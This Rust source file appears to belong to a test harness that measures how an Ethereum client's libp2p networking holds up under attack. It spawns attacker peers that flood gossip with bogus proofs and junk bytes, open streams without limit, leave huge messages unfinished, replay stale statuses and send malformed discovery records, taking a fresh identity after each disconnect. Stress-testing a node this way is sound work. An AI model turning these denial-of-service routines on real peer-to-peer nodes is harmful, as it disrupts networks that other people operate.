//! The attackers: bare libp2p peers that do one thing as fast as they can.

use crate::node::{Failure, random_bytes, root};
use crate::{records, takers};
use assay_network::{PeerStatus, enr::Enr, framing::encode_request, rpc::Protocol as Requests};
use assay_types::{
    Epoch, ExecutionProof, ExecutionProofStatus, ForkDigest, PublicInput, Root, SignatureBytes,
    SignedExecutionProof, Slot, Spec, SszContainer as _, digest::execution_proof_topic, gossip::compress,
};
use futures::{AsyncReadExt as _, AsyncWriteExt as _, StreamExt as _};
use libp2p::{
    Multiaddr, PeerId, StreamProtocol, Swarm, SwarmBuilder, gossipsub,
    multiaddr::Protocol,
    noise,
    swarm::{NetworkBehaviour, SwarmEvent},
    tcp, yamux,
};
use std::{
    sync::{
        Arc, Mutex,
        atomic::{AtomicU32, AtomicU64, AtomicUsize, Ordering},
    },
    time::Duration,
};

/// Bytes of a false proof.
const PROOF_BYTES: usize = 1 << 20;
/// Bytes that are sent of a message that is begun and never ended: all but its last, of the largest that eth2's text
/// lets an RPC be.
const BEGUN_BYTES: usize = 12 << 20;
/// What a new identity waits after the last was cut off.
const PAUSE: Duration = Duration::from_millis(500);
/// Time to be let in and to see the topic.
const ENTRY: Duration = Duration::from_secs(10);

/// What an attacker does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Well-formed proofs of payloads that nobody knows.
    UnknownPayloads,
    /// Proofs of a known payload, of validators that do not exist.
    UnknownValidators,
    /// Bytes that are no snappy.
    NoSnappy,
    /// Snappy that is no proof.
    NoProof,
    /// As many streams as can be opened.
    Streams,
    /// Messages of which all but the end comes, each on a connection of its own that stays.
    Unfinished,
    /// Requests for every proof, and none of them taken.
    Takers,
    /// Statuses that were true once, the older the later.
    OldStatus,
    /// Records that do not fit, and packets that are none, over discovery.
    WrongRecords,
}

impl Attack {
    pub(crate) const ALL: [Self; 9] = [
        Self::UnknownPayloads,
        Self::UnknownValidators,
        Self::NoSnappy,
        Self::NoProof,
        Self::Streams,
        Self::Unfinished,
        Self::Takers,
        Self::OldStatus,
        Self::WrongRecords,
    ];
}

/// What the attackers did, together.
#[derive(Default)]
pub(crate) struct Tally {
    identities: AtomicUsize,
    pub(crate) bytes: AtomicU64,
    pub(crate) done: [AtomicU64; Attack::ALL.len()],
    pub(crate) next: AtomicU32,
    /// Ids of proofs, as they were announced.
    pub(crate) ids: Mutex<Vec<Vec<u8>>>,
}

/// Attackers at work, until it is dropped.
pub(crate) struct Attackers {
    tally: Arc<Tally>,
    _runtime: tokio::runtime::Runtime,
}

impl Attackers {
    pub(crate) fn identities(&self) -> usize {
        self.tally.identities.load(Ordering::Relaxed)
    }
    pub(crate) fn bytes(&self) -> u64 {
        self.tally.bytes.load(Ordering::Relaxed)
    }
    /// How often one was done: messages, or streams tried.
    pub(crate) fn did(&self, attack: Attack) -> u64 {
        self.tally.done[attack as usize].load(Ordering::Relaxed)
    }
}

/// Sets `each` attackers of every kind on a node, given by its address and its record.
pub(crate) fn start(victim: &str, record: &str, each: usize) -> Result<Attackers, Failure> {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()?;
    let tally = Arc::new(Tally::default());
    let address: Multiaddr = victim.parse()?;
    let record: Enr = record.parse()?;
    for attack in Attack::ALL {
        for _ in 0..each {
            let (tally, address, record) = (Arc::clone(&tally), address.clone(), record.clone());
            runtime.spawn(async move {
                loop {
                    tally.identities.fetch_add(1, Ordering::Relaxed);
                    // Being cut off is what it is here for.
                    let _ = match attack {
                        Attack::WrongRecords => records::live(&record, &tally).await,
                        Attack::Takers => match address.iter().last() {
                            Some(Protocol::P2p(victim)) => takers::live(&address, victim, &tally).await,
                            _ => Ok(()),
                        },
                        _ => live(attack, &address, &tally).await,
                    };
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
    }
    Ok(Attackers {
        tally,
        _runtime: runtime,
    })
}

#[derive(NetworkBehaviour)]
struct Behaviour {
    gossip: gossipsub::Behaviour,
    streams: libp2p_stream::Behaviour,
}

/// One identity, from its connection to its end.
async fn live(attack: Attack, address: &Multiaddr, tally: &Tally) -> Result<(), Failure> {
    let config = gossipsub::ConfigBuilder::default()
        .validation_mode(gossipsub::ValidationMode::Anonymous)
        .message_id_fn(|m: &gossipsub::Message| gossipsub::MessageId::new(&m.data[..m.data.len().min(64)]))
        .max_transmit_size(16 << 20)
        .connection_handler_queue_len(4)
        .build()?;
    let mut swarm = SwarmBuilder::with_new_identity()
        .with_tokio()
        .with_tcp(tcp::Config::default(), noise::Config::new, yamux::Config::default)?
        .with_behaviour(|_| Behaviour {
            gossip: gossipsub::Behaviour::new(gossipsub::MessageAuthenticity::Anonymous, config)
                .unwrap_or_else(|_| unreachable!("the settings above hold")),
            streams: libp2p_stream::Behaviour::new(),
        })?
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(600)))
        .build();
    swarm.dial(address.clone())?;
    let Some(Protocol::P2p(victim)) = address.iter().last() else {
        return Err("the victim has no id".into());
    };
    let topic = enter(&mut swarm).await?;
    match attack {
        Attack::OldStatus => statuses(swarm, victim, tally).await,
        Attack::Streams => streams(swarm, victim, tally).await,
        Attack::Unfinished => unfinished(swarm, victim, tally).await,
        _ => flood(attack, swarm, topic, tally).await,
    }
}

/// The digest that the nodes of this measurement are on.
pub(crate) fn digest() -> ForkDigest {
    let mut spec = Spec::mainnet();
    spec.blob_schedule.clear();
    spec.fork_digest(&Root::from([7; 32]), Epoch(31))
}

/// Waits until the victim's topic is known, and joins it.
async fn enter(swarm: &mut Swarm<Behaviour>) -> Result<gossipsub::IdentTopic, Failure> {
    let topic = gossipsub::IdentTopic::new(execution_proof_topic(digest()));
    swarm.behaviour_mut().gossip.subscribe(&topic)?;
    let joined = async {
        loop {
            match swarm.select_next_some().await {
                SwarmEvent::Behaviour(BehaviourEvent::Gossip(gossipsub::Event::Subscribed { .. })) => {
                    return Ok(());
                }
                SwarmEvent::ConnectionClosed { .. } | SwarmEvent::OutgoingConnectionError { .. } => {
                    return Err("not let in");
                }
                _ => {}
            }
        }
    };
    tokio::time::timeout(ENTRY, joined).await??;
    Ok(topic)
}

/// Publishes false messages as fast as the queue takes them.
async fn flood(
    attack: Attack,
    mut swarm: Swarm<Behaviour>,
    topic: gossipsub::IdentTopic,
    tally: &Tally,
) -> Result<(), Failure> {
    loop {
        let n = tally.next.fetch_add(1, Ordering::Relaxed);
        let data = message(attack, n);
        let len = data.len() as u64;
        let published = swarm.behaviour_mut().gossip.publish(topic.clone(), data);
        let wait = match published {
            Ok(_) => {
                tally.bytes.fetch_add(len, Ordering::Relaxed);
                tally.done[attack as usize].fetch_add(1, Ordering::Relaxed);
                Duration::from_millis(1)
            }
            Err(_) => Duration::from_millis(50),
        };
        let pause = tokio::time::sleep(wait);
        tokio::pin!(pause);
        loop {
            tokio::select! {
                event = swarm.select_next_some() => {
                    if matches!(event, SwarmEvent::ConnectionClosed { .. }) {
                        return Ok(());
                    }
                }
                () = &mut pause => break,
            }
        }
    }
}

fn message(attack: Attack, n: u32) -> Vec<u8> {
    let random = random_bytes(n ^ 0x5555_5555, PROOF_BYTES);
    let (root, validator_index) = match attack {
        Attack::UnknownPayloads => (root(0x8000_0000 | n), 1),
        Attack::UnknownValidators => (root(0), 1_000_000_000 + u64::from(n)),
        Attack::NoProof => return compress(&random),
        _ => return random,
    };
    let proof = SignedExecutionProof {
        message: ExecutionProof {
            proof_data: random.into(),
            proof_type: 1,
            public_input: PublicInput {
                new_payload_request_root: root,
            },
        },
        validator_index,
        signature: SignatureBytes::ZERO,
    };
    compress(&proof.to_ssz_bytes())
}

/// Opens streams without end.
async fn streams(mut swarm: Swarm<Behaviour>, victim: PeerId, tally: &Tally) -> Result<(), Failure> {
    let mut control = swarm.behaviour().streams.new_control();
    let opening = async {
        let mut open = Vec::new();
        for n in 0u64.. {
            // Gossip's own name, so that it is taken; now and then another.
            let name = if n % 4 != 0 {
                "/meshsub/1.1.0"
            } else {
                "/eth2/beacon_chain/req/execution_proofs_by_range/1/ssz_snappy"
            };
            tally.done[Attack::Streams as usize].fetch_add(1, Ordering::Relaxed);
            match control.open_stream(victim, StreamProtocol::new(name)).await {
                Ok(stream) => open.push(stream),
                Err(_) => tokio::time::sleep(Duration::from_millis(5)).await,
            }
        }
    };
    until_closed(&mut swarm, opening).await;
    Ok(())
}

/// Begins one message, and stays.
async fn unfinished(mut swarm: Swarm<Behaviour>, victim: PeerId, tally: &Tally) -> Result<(), Failure> {
    let mut control = swarm.behaviour().streams.new_control();
    let staying = async {
        let name = StreamProtocol::new("/meshsub/1.1.0");
        let Ok(mut stream) = control.open_stream(victim, name).await else {
            return;
        };
        tally.done[Attack::Unfinished as usize].fetch_add(1, Ordering::Relaxed);
        // Its length; a varint of 12 MiB.
        if stream.write_all(&[0x80, 0x80, 0x80, 0x06]).await.is_err() {
            return;
        }
        let begun = random_bytes(1, BEGUN_BYTES - 1);
        for piece in begun.chunks(1 << 16) {
            if stream.write_all(piece).await.is_err() {
                return;
            }
            tally.bytes.fetch_add(piece.len() as u64, Ordering::Relaxed);
        }
        let _ = stream.flush().await;
        drop(begun);
        std::future::pending::<()>().await;
    };
    until_closed(&mut swarm, staying).await;
    Ok(())
}

async fn until_closed(swarm: &mut Swarm<Behaviour>, work: impl Future<Output = ()>) {
    let closed = async {
        loop {
            if let SwarmEvent::ConnectionClosed { .. } = swarm.select_next_some().await {
                return;
            }
        }
    };
    tokio::select! {
        () = closed => {}
        () = work => {}
    }
}

/// Tells the victim a status, proof status and base status in turn, each older than the one before, as fast as it
/// answers.
async fn statuses(mut swarm: Swarm<Behaviour>, victim: PeerId, tally: &Tally) -> Result<(), Failure> {
    let mut control = swarm.behaviour().streams.new_control();
    let telling = async {
        for age in (0..=1000).rev().cycle() {
            let (protocol, told) = if age % 2 == 0 {
                let status = ExecutionProofStatus {
                    block_root: root(age),
                    slot: Slot(u64::from(age)),
                    proof_types: vec![1],
                };
                (Requests::ExecutionProofStatus, status.to_ssz_bytes())
            } else {
                let status = PeerStatus {
                    fork_digest: digest(),
                    finalized_root: root(age / 32),
                    finalized_epoch: Epoch(u64::from(age / 32)),
                    head_root: root(age),
                    head_slot: Slot(u64::from(age)),
                    earliest_available_slot: Some(Slot(u64::from(age))),
                };
                (Requests::StatusV2, status.to_v2_bytes())
            };
            tally.done[Attack::OldStatus as usize].fetch_add(1, Ordering::Relaxed);
            match control
                .open_stream(victim, StreamProtocol::new(protocol.id()))
                .await
            {
                Ok(mut stream) => {
                    let request = encode_request(&told);
                    tally.bytes.fetch_add(request.len() as u64, Ordering::Relaxed);
                    let answered = async {
                        stream.write_all(&request).await?;
                        stream.close().await?;
                        stream.read_to_end(&mut Vec::new()).await
                    };
                    let _ = tokio::time::timeout(Duration::from_secs(1), answered).await;
                }
                Err(_) => tokio::time::sleep(Duration::from_millis(5)).await,
            }
        }
    };
    until_closed(&mut swarm, telling).await;
    Ok(())
}
